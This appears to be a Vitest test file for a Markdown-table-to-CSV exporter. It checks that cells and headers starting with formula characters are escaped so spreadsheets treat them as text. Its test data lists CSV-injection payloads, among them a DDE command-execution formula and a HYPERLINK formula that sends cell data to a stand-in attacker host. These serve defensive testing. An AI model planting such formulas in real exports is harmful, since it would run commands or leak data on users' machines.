import {expect, test} from 'vitest'
import {reportHtml} from '../../dist/report.js'
import {annotate, readTables, tableCsv} from '../../src/index.js'

/** What spreadsheets run, as OWASP lists it, with the full-width forms some of them fold. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－cmd',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1)'
]

const tableOf = (cell: string) =>
  `| Name | Value |\n| - | - |\n| ${cell.replaceAll('|', '\\|')} | a |\n| b | c |\n`

test.each(formulas)('the cell %s is text to a spreadsheet', formula => {
  const [table] = readTables(tableOf(formula))
  const row = tableCsv(table!).split('\r\n')[1]!
  expect(row).toMatch(/^"?'/)
})

test.each(formulas)('the header %s is text to a spreadsheet', formula => {
  const text = `| ${formula.replaceAll('|', '\\|')} | Value |\n| - | - |\n| a | b |\n`
  const header = tableCsv(readTables(text)[0]!).split('\r\n')[0]!
  for (const field of header.split(',')) expect(field).not.toMatch(/^"?[=+\-@\t\r＝＋－＠]/)
})

test('a negative number stays a number', () => {
  const [table] = readTables('| Name | Change |\n| - | - |\n| a | -3.5 |\n| b | +2 |\n')
  expect(tableCsv(table!)).toBe('name,change\r\na,-3.5\r\nb,2\r\n')
})

test('the download of the report holds the same CSV', () => {
  const html = reportHtml(annotate(tableOf('=1+1')))
  const address = /href="(data:text\/csv[^"]*)"/.exec(html)![1]!
  expect(decodeURIComponent(address).replaceAll('&#x27;', "'")).toContain("\r\n'=1+1,a\r\n")
})
